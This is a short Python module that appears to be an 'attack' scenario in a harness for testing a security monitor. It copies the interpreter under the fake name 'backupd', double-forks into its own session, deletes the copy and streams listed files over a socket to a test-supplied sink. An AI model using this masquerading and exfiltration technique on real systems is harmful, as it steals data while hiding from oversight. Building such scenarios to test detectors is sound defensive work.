# SPDX-License-Identifier: GPL-3.0-or-later
"""Forked twice, in a session of its own, from a copy under another name that is deleted."""
import os
import random
import shutil
import time

KIND = "attack"


def product(world):
    copy = os.path.join(world["scratch"], "backupd")
    shutil.copy(world["interpreter"], copy)
    os.chmod(copy, 0o755)
    script = ("import os,sys,socket,time\n"
              "os.unlink(sys.argv[1])\n"
              "time.sleep(0.5)\n"
              "s=socket.create_connection((sys.argv[2],int(sys.argv[3])))\n"
              "[s.sendall(open(p,'rb').read()) for p in sys.argv[4:]]\n")
    address, port = random.Random(world["seed"]).choice(world["sinks"])
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(copy, ["backupd", "-S", "-c", script, copy, address, str(port), *world["files"]])
        os._exit(0)
    os.wait()
    time.sleep(3)
